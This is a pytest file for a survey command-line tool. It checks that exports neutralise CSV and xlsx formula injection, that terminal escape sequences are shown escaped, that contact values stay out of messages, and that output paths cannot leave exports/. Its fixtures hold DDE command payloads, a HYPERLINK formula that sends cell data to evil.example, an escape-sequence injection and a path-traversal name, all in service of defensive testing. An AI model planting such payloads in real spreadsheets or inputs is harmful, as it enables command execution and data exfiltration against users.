"""Hostile content is neutralised: formulas stay text in xlsx and are escaped in CSV, escape sequences from
files are shown escaped, no message prints a contact value, and outputs stay inside exports/."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest

from survey_tui.cli import main
from survey_tui.core.store.sqlite import Store
from survey_tui.io.cells import csv_row, csv_text, starts_a_formula

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_escaped_for_csv(text: str) -> None:
    assert starts_a_formula(text)
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+886 912 345 678", "3.5", "plain", "", "中文=1", "-1.25"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert csv_text(text) == text
    assert csv_row([1, None, 2.5, text]) == [1, None, 2.5, text]


@pytest.fixture
def hostile_study(demo_study_dir: Path, tmp_path: Path) -> Path:
    root = tmp_path / "study"
    shutil.copytree(demo_study_dir, root)
    shutil.rmtree(root / "exports")
    with Store(root / "survey.db") as store:
        rows = store.query(
            "SELECT a.interview_id, a.question FROM answers a JOIN interviews i ON i.id = a.interview_id"
            " WHERE a.question = 'a5_why' AND i.mode = 'field' AND i.status = 'completed'"
            " AND a.interview_id NOT IN (SELECT interview_id FROM quality_decisions) LIMIT 6"
        )
        assert len(rows) == 6, "the demo has open-ended a5_why answers"
        for (interview_id, question), text in zip(rows, FORMULAS, strict=True):
            store.save_answer(interview_id, question, text, None)
    return root


def _xlsx_formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in any sheet of the workbook, read from the XML itself."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name) or b"<f " in archive.read(name)
        ]


def test_exports_write_hostile_answers_as_text(hostile_study: Path) -> None:
    assert main(["export", "--study", str(hostile_study), "--format", "csv,xlsx"]) == 0
    exports = hostile_study / "exports"
    workbooks = list(exports.rglob("*.xlsx"))
    csvs = list(exports.rglob("*.csv"))
    assert workbooks and csvs
    for book in workbooks:
        assert _xlsx_formulas(book) == [], book
    seen = 0
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert not starts_a_formula(cell), (path.name, cell)
                seen += cell.lstrip("'") in FORMULAS
    assert seen >= len(FORMULAS)  # the hostile answers are there, as inert text


def test_xlsform_export_keeps_formula_like_labels_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from survey_tui.io.xlsform import export_xlsform
    from tests.conftest import SMALL, load_small

    instrument = load_small(SMALL.replace("en: Brand A", 'en: "=HYPERLINK(\\"http://x\\",\\"y\\")"'))
    target = tmp_path / "form.xlsx"
    export_xlsform(instrument, target)
    assert _xlsx_formulas(target) == []
    cells = [c.value for ws in load_workbook(target).worksheets for row in ws.iter_rows() for c in row]
    assert '=HYPERLINK("http://x","y")' in cells


def test_check_shows_escape_sequences_escaped(
    demo_study_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "study"
    shutil.copytree(demo_study_dir, root)
    path = next((root / "instruments").glob("*.yaml"))
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("type: scale", 'type: "\\e]0;pwned\\a\\e[2Jscale"', 1), encoding="utf-8")
    assert main(["check", str(root)]) == 1
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err and "\x07" not in out.out + out.err
    assert "\\x1b]0;pwned" in out.out


def test_contact_values_never_appear_in_messages(
    demo_study_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "study"
    shutil.copytree(demo_study_dir, root)
    source = tmp_path / "bad.csv"
    source.write_text(
        "name,phone,email\n張三豐,12ab99,zhang.sanfeng@\n李四維,0912,li.siwei@nowhere\n", encoding="utf-8"
    )
    assert main(["respondents", "import", str(source), "--study", str(root), "--dry-run"]) == 0
    out = capsys.readouterr()
    for value in ("張三豐", "12ab99", "zhang.sanfeng@", "李四維", "0912,", "li.siwei@nowhere"):
        assert value not in out.out + out.err, value
    assert "line 2:" in out.out and "line 3:" in out.out


def test_a_csv_with_cr_only_line_ends_imports_its_rows(
    demo_study_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "study"
    shutil.copytree(demo_study_dir, root)
    source = tmp_path / "mac.csv"
    source.write_bytes("name,phone\r王大明,0912345678\r李小四,0922333444\r".encode())
    assert main(["respondents", "import", str(source), "--study", str(root), "--dry-run"]) == 0
    assert "mac.csv (utf-8): 2 rows" in capsys.readouterr().out


def test_an_output_name_cannot_climb_out_of_exports(
    demo_study_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "deep" / "study"
    shutil.copytree(demo_study_dir, root)
    assert main(["tables", "--study", str(root), "--out", "../../escaped.md"]) == 1
    assert "outside the study's exports/" in capsys.readouterr().err
    assert not (tmp_path / "escaped.md").exists()
    elsewhere = tmp_path / "chosen.md"
    assert main(["tables", "--study", str(root), "--out", str(elsewhere)]) == 0  # named outright: allowed
    assert elsewhere.is_file()
